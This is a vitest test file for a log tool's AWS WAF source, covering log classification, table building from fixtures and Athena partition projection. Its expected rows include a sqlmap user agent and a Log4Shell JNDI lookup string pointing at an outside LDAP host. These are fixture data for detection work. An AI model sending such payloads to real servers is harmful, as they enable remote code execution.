/** The fixtures in test/fixtures/waf are written for these tests from the documented log fields. */
import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { classifyLogFile } from '../../../shared/sources/classify-log-file.js';
import type { AthenaLocation } from '../../../shared/sources/log-source-module.js';
import { wafSource } from '../../../shared/sources/waf-source.js';
import {
  athenaColumns,
  duckdbColumns,
  itRefuses,
  quarantinedByName,
  recordCounts,
  skippedByName,
  useBuiltFolder,
} from '../../support/source-harness.js';

const fixtures = fileURLToPath(new URL('../../fixtures/waf/', import.meta.url));
const wafLog = fileURLToPath(new URL('../../fixtures/waf/shop-prod.jsonl', import.meta.url));

const location: AthenaLocation = {
  s3Uri: 's3://aws-waf-logs-shop/',
  accounts: ['111122223333'],
  regions: ['us-east-1', 'cloudfront'],
  window: { from: '2024-05-01T10:00:00.000Z', to: '2024-05-01T12:00:00.000Z' },
};

describe('recognising WAF logs by content', () => {
  it('reads records that name a web ACL, the deciding rule and the request', async () => {
    expect(classifyLogFile(await readFile(wafLog, 'utf8'))).toEqual({
      kind: 'log',
      source: 'waf',
      layout: 'json-lines',
    });
  });

  itRefuses(wafSource, 'does not read %s as WAF', [
    [
      'a CloudTrail record about a web ACL',
      '{"eventVersion":"1.08","eventSource":"wafv2.amazonaws.com","eventName":"UpdateWebACL","requestParameters":{"webaclId":"x"}}',
    ],
    [
      'a Resolver query log record',
      '{"query_timestamp":"2021-02-04T17:51:55Z","query_name":"a.","query_type":"A","rcode":"NOERROR"}',
    ],
  ]);
});

describe('the waf table from delivered files', () => {
  const built = useBuiltFolder(fixtures);

  it('reads every record that fits, sets aside each line that is no JSON, and reads a wrong-typed time as NULL', () => {
    expect(recordCounts(built)).toEqual([['waf', 6]]);
    expect(skippedByName(built)).toEqual({
      'corrupt.jsonl.gz': 'inventory: corrupt gzip: gzip data cut off (file truncated)',
    });
    expect(quarantinedByName(built)).toEqual({
      'garbage-line.jsonl line 2': expect.stringMatching(/^not valid JSON: Unexpected token '<'/),
      'truncated-line.jsonl line 2': expect.stringMatching(/^not valid JSON: Unterminated string/),
    });
    const wrongType = built.tables.files?.find((f) => f.file.endsWith('wrong-type.jsonl'));
    expect(wrongType).toMatchObject({ records: 1, read: 1, quarantined: 0, nulledValues: 1 });
    expect(built.tables.tables[0]?.recordsWithoutTime).toBe(1);
    expect(built.tables.tables[0]?.firstEventTime).toBe('2024-05-01T10:00:00.000Z');
    expect(built.tables.tables[0]?.lastEventTime).toBe('2024-05-01T10:00:10.000Z');
  });

  it('reads the request, its headers and the labels under lower-case names', async () => {
    // DISTINCT: each damaged file starts with a record of shop-prod.jsonl (request ids follow time); the wrong-typed one has no time.
    const { rows } = await built.engine.run(
      `SELECT DISTINCT action, httprequest.clientip AS client_ip, httprequest.requestid AS request_id,
              try(filter(httprequest.headers, h -> lower(h.name) = 'user-agent')[1]).value AS user_agent,
              cardinality(filter(labels, l -> l.name LIKE 'awswaf:managed:aws:known-bad-inputs:%')) AS bad_input_labels,
              json_extract_scalar(rulegrouplist, '$[0].ruleGroupId') AS first_rule_group,
              nonterminatingmatchingrules[1].action AS web_acl_count
       FROM waf WHERE "timestamp" IS NOT NULL ORDER BY request_id`,
    );
    expect(rows).toEqual([
      {
        action: 'ALLOW',
        client_ip: '198.51.100.23',
        request_id: '1-66321a50-0a1b2c3d4e5f60718293a4b5',
        user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
        bad_input_labels: '0',
        first_rule_group: null,
        web_acl_count: null,
      },
      {
        action: 'BLOCK',
        client_ip: '203.0.113.77',
        request_id: '1-66321a55-1b2c3d4e5f60718293a4b5c6',
        user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)',
        bad_input_labels: '0',
        first_rule_group: 'AWS#AWSManagedRulesSQLiRuleSet',
        web_acl_count: null,
      },
      {
        action: 'ALLOW',
        client_ip: '203.0.113.78',
        request_id: '1-66321a5a-2c3d4e5f60718293a4b5c6d7',
        user_agent: `\${jndi:ldap://203.0.113.78:1389/a}`,
        bad_input_labels: '1',
        first_rule_group: 'AWS#AWSManagedRulesKnownBadInputsRuleSet',
        web_acl_count: 'COUNT',
      },
    ]);
  });

  it('has the same columns and types as the Athena table', async () => {
    const athena = athenaColumns(wafSource.athenaCreateTable?.('waf_0', location) ?? '');
    expect(await duckdbColumns(built.engine, 'waf')).toEqual(athena);
  });
});

describe('the Athena table', () => {
  it('projects down to the day when the inventory listed the web ACL folders', () => {
    const ddl = wafSource.athenaCreateTable?.('waf_0', { ...location, resourceFolders: ['shop-prod'] }) ?? '';
    // https://docs.aws.amazon.com/athena/latest/ug/openx-json-serde.html: non-deterministic for some inputs.
    expect(ddl).toContain("ROW FORMAT SERDE 'org.apache.hadoop.hive.serde2.RegexSerDe'");
    expect(ddl).not.toContain('JsonSerDe');
    expect(ddl).toContain(
      'PARTITIONED BY (`delivery_account` string, `delivery_region` string, `delivery_web_acl` string, `delivery_day` string)',
    );
    expect(ddl).toContain("'projection.delivery_region.values'='cloudfront,us-east-1'");
    expect(ddl).toContain("'projection.delivery_web_acl.values'='shop-prod'");
    expect(ddl).toContain("'projection.delivery_day.range'='2024/04/30,2024/05/02'");
    expect(ddl).toContain(
      `'storage.location.template'='s3://aws-waf-logs-shop/AWSLogs/\${delivery_account}/WAFLogs/\${delivery_region}/\${delivery_web_acl}/\${delivery_day}/'`,
    );
  });

  it('stops at the region without the web ACL names, and reads every day below it', () => {
    const ddl = wafSource.athenaCreateTable?.('waf_0', location) ?? '';
    expect(ddl).toContain('PARTITIONED BY (`delivery_account` string, `delivery_region` string)');
    expect(ddl).not.toContain('delivery_day');
    expect(ddl).toContain(
      `'storage.location.template'='s3://aws-waf-logs-shop/AWSLogs/\${delivery_account}/WAFLogs/\${delivery_region}/'`,
    );
  });
});
